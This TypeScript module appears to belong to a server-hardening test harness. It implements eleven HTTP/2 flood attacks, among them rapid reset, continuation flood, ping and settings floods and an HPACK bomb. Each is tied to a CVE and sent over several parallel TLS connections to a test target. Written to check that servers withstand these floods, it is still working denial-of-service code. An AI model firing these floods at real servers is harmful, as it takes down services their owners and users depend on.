/** Floods of HTTP/2 frames that cost little to send: each must end the connection, or be as cheap to take as to send. */

import type { AttackClass } from "./attack-class.ts";
import {
  FLAG,
  FRAME,
  frame,
  grpcCall,
  headers,
  hello,
  indexed,
  indexing,
  literal,
  MAX_31,
  number32,
  ping,
  reset,
  SETTING,
  settings,
  windowUpdate,
} from "./frames.ts";
import type { Range, Wire } from "./range.ts";
import { servedPath } from "./target.ts";

/** Frames of one write. */
const burstCount = 50;
/** Connections that flood beside each other. */
const besideCount = 4;

/** Frames `from`, `from + 1`, ... of one connection. */
type Nth = (nth: number) => Uint8Array;

/** Floods each of a few connections with what `start` makes of it; a connection that is cut is made anew. */
async function flood(
  range: Range,
  start: (wire: Wire) => { readonly first?: Uint8Array; readonly nth: Nth },
): Promise<void> {
  await range.beside(besideCount, async () => {
    while (!range.isOver) {
      const wire = await range.dialTls();
      if (wire === undefined) continue;
      const { first, nth } = start(wire);
      await wire.write(first ?? hello(), 0);
      for (let from = 0; (await range.pace(burstCount)) && wire.isOpen; from += burstCount) {
        const burst = Array.from({ length: burstCount }, (_, at) => nth(from + at));
        if (!(await wire.write(Buffer.concat(burst), burstCount))) break;
      }
    }
  });
}

/** Streams of a client are odd. */
const streamOf = (nth: number): number => (nth * 2 + 1) % MAX_31;

const rapidReset: AttackClass = {
  id: "rapid-reset",
  title: "calls that are reset as soon as they are made",
  seen: "CVE-2023-44487",
  layer: "http2",
  cutAfterUnits: 1_500,
  run: (range) => {
    const call = grpcCall(servedPath(range.endpoint));
    return flood(range, () => ({ nth: (nth) => Buffer.concat([headers(streamOf(nth), call), reset(streamOf(nth))]) }));
  },
};

const continuationFlood: AttackClass = {
  id: "continuation-flood",
  title: "a header block that never ends",
  seen: "CVE-2024-27983, CVE-2024-28182",
  layer: "http2",
  cutAfterUnits: 200,
  run: (range) => {
    const more = frame(FRAME.continuation, 0, 1, literal("x-more", "a".repeat(1_000)));
    const first = headers(1, grpcCall(servedPath(range.endpoint)), 0);
    return flood(range, () => ({ nth: (nth) => (nth === 0 ? first : more) }));
  },
};

const emptyFrames: AttackClass = {
  id: "empty-frames",
  title: "frames without content: DATA, and header blocks that go on",
  seen: "CVE-2019-9518",
  layer: "http2",
  cutAfterUnits: 500,
  run: (range) => {
    const call = grpcCall(servedPath(range.endpoint));
    const nothing = [frame(FRAME.data, 0, 1), frame(FRAME.continuation, 0, 1)];
    let turn = 0;
    return flood(range, () => {
      turn += 1;
      const isData = turn % 2 === 0;
      const first = headers(1, call, isData ? FLAG.endHeaders : 0);
      return { nth: (nth) => (nth === 0 ? first : (nothing[isData ? 0 : 1] ?? first)) };
    });
  },
};

const pingFlood: AttackClass = {
  id: "ping-flood",
  title: "pings, answers unread",
  seen: "CVE-2019-9512",
  layer: "http2",
  cutAfterUnits: 2_000,
  run: (range) =>
    flood(range, (wire) => {
      wire.stream.pause();
      return { nth: ping };
    }),
};

const readPingFlood: AttackClass = {
  id: "ping-flood-read",
  title: "pings, answers read",
  seen: "CVE-2019-9512",
  layer: "http2",
  cutAfterUnits: 2_000,
  run: (range) => flood(range, () => ({ nth: ping })),
};

const settingsFlood: AttackClass = {
  id: "settings-flood",
  title: "settings that change back and forth",
  seen: "CVE-2019-9515",
  layer: "http2",
  cutAfterUnits: 1_000,
  run: (range) =>
    flood(range, () => ({
      nth: (nth) => settings([SETTING.window, 65_535 + (nth % 2)], [SETTING.headerTable, (nth % 2) * 4_096]),
    })),
};

const priorityFlood: AttackClass = {
  id: "priority-flood",
  title: "priorities of streams that do not exist",
  seen: "CVE-2019-9513",
  layer: "http2",
  run: (range) =>
    flood(range, () => ({
      nth: (nth) =>
        frame(
          FRAME.priority,
          0,
          streamOf(nth % 1_000),
          Buffer.concat([number32(streamOf((nth * 7) % 1_000)), Buffer.from([nth % 256])]),
        ),
    })),
};

const windowFlood: AttackClass = {
  id: "window-flood",
  title: "window updates of one byte each, and of idle streams",
  seen: "CVE-2019-9517",
  layer: "http2",
  run: (range) => flood(range, () => ({ nth: () => windowUpdate(0, 1) })),
};

const dataDribble: AttackClass = {
  id: "data-dribble",
  title: "a request of one byte a frame",
  seen: "CVE-2019-9511",
  layer: "http2",
  run: (range) => {
    const call = headers(1, grpcCall(servedPath(range.endpoint)));
    const dribble = frame(FRAME.data, 0, 1, Buffer.alloc(1));
    return flood(range, () => ({ nth: (nth) => (nth === 0 ? call : dribble) }));
  },
};

const namelessHeaders: AttackClass = {
  id: "nameless-headers",
  title: "headers with neither name nor value",
  seen: "CVE-2019-9516",
  layer: "http2",
  run: (range) => {
    const block = grpcCall(servedPath(range.endpoint), ...Array.from({ length: 100 }, () => literal("", "")));
    return flood(range, () => ({ nth: (nth) => headers(streamOf(nth), block, FLAG.endHeaders | FLAG.endStream) }));
  },
};

const hpackBomb: AttackClass = {
  id: "hpack-bomb",
  title: "a few bytes that unpack to megabytes of headers",
  seen: "CVE-2025-59465, CVE-2016-1544",
  layer: "http2",
  run: (range) => {
    const big = indexing("x-big", "b".repeat(4_000));
    const many = Buffer.concat(Array.from({ length: 4_000 }, () => indexed(62)));
    const block = grpcCall(servedPath(range.endpoint), big, many);
    return flood(range, () => ({ nth: (nth) => headers(streamOf(nth), block, FLAG.endHeaders | FLAG.endStream) }));
  },
};

export const http2Floods: readonly AttackClass[] = [
  rapidReset,
  continuationFlood,
  emptyFrames,
  pingFlood,
  readPingFlood,
  settingsFlood,
  priorityFlood,
  windowFlood,
  dataDribble,
  namelessHeaders,
  hpackBomb,
];
